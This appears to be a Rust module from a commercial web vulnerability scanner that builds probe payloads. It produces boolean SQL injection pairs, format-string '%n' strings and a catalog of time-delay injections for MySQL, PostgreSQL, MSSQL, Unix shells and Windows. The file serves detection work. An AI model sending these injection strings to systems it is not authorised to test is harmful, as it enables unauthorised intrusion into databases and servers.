// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Payload Generators
 * Random strings, boolean statement pairs and delay statement catalog
 * feeding the injection oracles
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use rand::Rng;

use crate::errors::GenerationError;
use crate::types::{TargetDbms, TargetOs};

const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

/// Retry budget for excluded-value regeneration. A bounded loop, not
/// recursion: exhaustion is a typed error instead of a blown stack.
const MAX_NUMBER_ATTEMPTS: u32 = 100;

/// A payload guaranteed to break SQL syntax in every quoting context.
pub const SYNTAX_ERROR_PAYLOAD: &str = "d'z'0";

fn rand_from(alphabet: &[u8], len: Option<usize>) -> String {
    let mut rng = rand::rng();
    let len = len.unwrap_or_else(|| rng.random_range(10..=30));
    (0..len)
        .map(|_| alphabet[rng.random_range(0..alphabet.len())] as char)
        .collect()
}

/// Random alphabetic string. Unspecified length is drawn from 10..=30.
pub fn rand_alpha(len: Option<usize>) -> String {
    rand_from(ALPHA, len)
}

/// Random alphanumeric string. Unspecified length is drawn from 10..=30.
pub fn rand_alnum(len: Option<usize>) -> String {
    rand_from(ALNUM, len)
}

fn rand_number_value(len: Option<usize>, exclude: &[u128]) -> Result<u128, GenerationError> {
    let mut rng = rand::rng();
    let len = len.unwrap_or_else(|| rng.random_range(10..=30)).clamp(1, 30);
    let low = if len == 1 {
        0
    } else {
        10u128.pow((len - 1) as u32)
    };
    let high = 10u128.pow(len as u32);
    for _ in 0..MAX_NUMBER_ATTEMPTS {
        let value = rng.random_range(low..high);
        if !exclude.contains(&value) {
            return Ok(value);
        }
    }
    Err(GenerationError::ExclusionExhausted {
        attempts: MAX_NUMBER_ATTEMPTS,
    })
}

/// Random numeric string whose integer value avoids `exclude`.
pub fn rand_number(len: Option<usize>, exclude: &[u128]) -> Result<String, GenerationError> {
    rand_number_value(len, exclude).map(|value| value.to_string())
}

/// `%n` repeated `n` times, for probing unguarded format-string APIs.
pub fn format_string_payload(n: usize) -> String {
    "%n".repeat(n)
}

/// Injection quoting context for boolean statement pairs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SqlContext {
    Numeric,
    SingleQuote,
    DoubleQuote,
}

impl SqlContext {
    pub const ALL: [SqlContext; 3] = [
        SqlContext::Numeric,
        SqlContext::SingleQuote,
        SqlContext::DoubleQuote,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            SqlContext::Numeric => "numeric",
            SqlContext::SingleQuote => "single-quote",
            SqlContext::DoubleQuote => "double-quote",
        }
    }
}

impl std::fmt::Display for SqlContext {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.as_str())
    }
}

/// Paired TRUE/FALSE statements for one boolean-injection context.
///
/// Both statements share the same random integer, so they differ only in
/// truth value. A second confirmation pair must be generated with this
/// pair's integer in `exclude`, so its value is drawn independently.
#[derive(Debug, Clone)]
pub struct StatementPair {
    pub true_stmt: String,
    pub false_stmt: String,
    /// The random integer both statements were built from.
    pub rand: u128,
}

impl StatementPair {
    pub fn generate(
        context: SqlContext,
        original_value: &str,
        exclude: &[u128],
    ) -> Result<Self, GenerationError> {
        let value = rand_number_value(Some(4), exclude)?;
        let n = value.to_string();
        let n_next = (value + 1).to_string();
        let base = if original_value.is_empty() {
            n.clone()
        } else {
            original_value.to_string()
        };

        let (true_stmt, false_stmt) = match context {
            SqlContext::Numeric => (
                format!("{base} OR {n}={n} "),
                format!("{base} AND {n}={n_next} "),
            ),
            SqlContext::SingleQuote => (
                format!("{base}' OR '{n}'='{n}"),
                format!("{base}' AND '{n}'='{n_next}"),
            ),
            SqlContext::DoubleQuote => (
                format!("{base}\" OR \"{n}\"=\"{n}"),
                format!("{base}\" AND \"{n}\"=\"{n_next}"),
            ),
        };

        Ok(Self {
            true_stmt,
            false_stmt,
            rand: value,
        })
    }
}

/// One server-side delay statement for the time-delay oracle.
///
/// `{S}` in the template is the delay in seconds. Statements are appended to
/// the fuzzed location's original value at probe time.
#[derive(Debug, Clone, Copy)]
pub struct DelayStatement {
    pub label: &'static str,
    pub os: Option<TargetOs>,
    pub dbms: Option<TargetDbms>,
    template: &'static str,
}

impl DelayStatement {
    pub fn render(&self, seconds: u64) -> String {
        self.template.replace("{S}", &seconds.to_string())
    }

    /// A statement applies unless a known hint names a different target.
    pub fn applies(&self, os_hint: TargetOs, dbms_hint: TargetDbms) -> bool {
        let os_ok = match self.os {
            None => true,
            Some(os) => os_hint == TargetOs::Unknown || os == os_hint,
        };
        let dbms_ok = match self.dbms {
            None => true,
            Some(dbms) => dbms_hint == TargetDbms::Unknown || dbms == dbms_hint,
        };
        os_ok && dbms_ok
    }
}

const DELAY_STATEMENTS: &[DelayStatement] = &[
    DelayStatement {
        label: "MySQL SLEEP (numeric)",
        os: None,
        dbms: Some(TargetDbms::MySql),
        template: " AND SLEEP({S}) ",
    },
    DelayStatement {
        label: "MySQL SLEEP (quoted)",
        os: None,
        dbms: Some(TargetDbms::MySql),
        template: "' AND SLEEP({S}) AND '1'='1",
    },
    DelayStatement {
        label: "MySQL BENCHMARK",
        os: None,
        dbms: Some(TargetDbms::MySql),
        template: " AND BENCHMARK({S}000000,MD5(1)) ",
    },
    DelayStatement {
        label: "PostgreSQL pg_sleep",
        os: None,
        dbms: Some(TargetDbms::PostgreSql),
        template: "; SELECT pg_sleep({S})--",
    },
    DelayStatement {
        label: "PostgreSQL pg_sleep (quoted)",
        os: None,
        dbms: Some(TargetDbms::PostgreSql),
        template: "' AND 1=(SELECT 1 FROM PG_SLEEP({S}))--",
    },
    DelayStatement {
        label: "MSSQL WAITFOR",
        os: None,
        dbms: Some(TargetDbms::Mssql),
        template: "; WAITFOR DELAY '0:0:{S}'--",
    },
    DelayStatement {
        label: "MSSQL WAITFOR (quoted)",
        os: None,
        dbms: Some(TargetDbms::Mssql),
        template: "'; WAITFOR DELAY '0:0:{S}'--",
    },
    DelayStatement {
        label: "Shell sleep (semicolon)",
        os: Some(TargetOs::Unix),
        dbms: None,
        template: "; sleep {S}",
    },
    DelayStatement {
        label: "Shell sleep (backtick)",
        os: Some(TargetOs::Unix),
        dbms: None,
        template: "`sleep {S}`",
    },
    DelayStatement {
        label: "Shell sleep (pipe)",
        os: Some(TargetOs::Unix),
        dbms: None,
        template: "| sleep {S}",
    },
    DelayStatement {
        label: "Windows ping delay",
        os: Some(TargetOs::Windows),
        dbms: None,
        template: "& ping -n {S} 127.0.0.1 &",
    },
    DelayStatement {
        label: "Interpreter sleep()",
        os: None,
        dbms: None,
        template: "sleep({S})",
    },
];

/// Delay statements applicable under the configured target hints. Unknown
/// hints place no restriction.
pub fn delay_statements(os_hint: TargetOs, dbms_hint: TargetDbms) -> Vec<&'static DelayStatement> {
    DELAY_STATEMENTS
        .iter()
        .filter(|statement| statement.applies(os_hint, dbms_hint))
        .collect()
}
